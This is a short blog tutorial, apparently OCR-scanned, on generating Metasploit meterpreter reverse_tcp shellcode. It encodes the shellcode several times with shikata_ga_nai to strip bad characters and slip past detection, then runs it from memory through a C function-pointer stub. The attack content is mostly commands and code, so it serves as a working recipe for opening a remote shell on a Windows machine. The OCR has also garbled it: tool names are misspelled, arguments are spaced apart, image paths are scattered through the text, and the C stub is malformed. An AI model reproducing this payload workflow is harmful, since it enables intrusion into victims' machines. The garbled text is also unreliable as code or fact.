Shellcode Injection in Memory

# Shellcode [CONNECTION REVERSE] # Memory
In this post I willaddress the issue of injecting a shellcode in memory, but firstof all we have to generate a shellcode using the msfpayload that is present in the Metasploit framework.

root @ l0wsec: ~ # msfpayload windows / meterpreter / reverse_tcp LHOST = LPORT = 445 R | msfenconde -e x86 / x64 shikata_ga_nai -tc -a -b “\ x00 \ x0A \ x00” -c 5


Will generate the shellcode using the payload (windows / meterpreter / reverse_tcp). Now I’ll have to set the IP of the machine that will connect in the parameter (LHOST) and the door will also connect in parameter (LPORT), and last will define the parameter (R) for msfpayload me return to shellcode to (R) w.



msfenconde -e x86 / x64 shikata_ga_nai -tc -a -b “\ x00 \ x0A \ x00” -c 5

The msfencode will be used to encode my shellcode (x86 / shikata_ga_nai) now and will set the times numéro that my shellcode will be encoded in the parameter  (C 5) in this case set to five. (-t) And will also set the output format “c”. The architecturethat the shellcode will use is 64 bits (-a x64). I delete some characters “useless” x00, x0A using the parameter (b)



I will use the Dev C ++ to compile the program that will run my shellcode:

char code [] = “shellcode”;
int main (int argc, char ** argv)
int (* func) ();
= func (int (*) ()) code;
(Int) (* func) ();

# Connection



Leave a Reply

Fill in your details below or click an icon to log in: Logo

You are commenting using your account. Log Out /  Change )

Google+ photo

You are commenting using your Google+ account. Log Out /  Change )

Twitter picture

You are commenting using your Twitter account. Log Out /  Change )Facebook photo

You are commenting using your Facebook account. Log Out /  Change )


Connecting to %s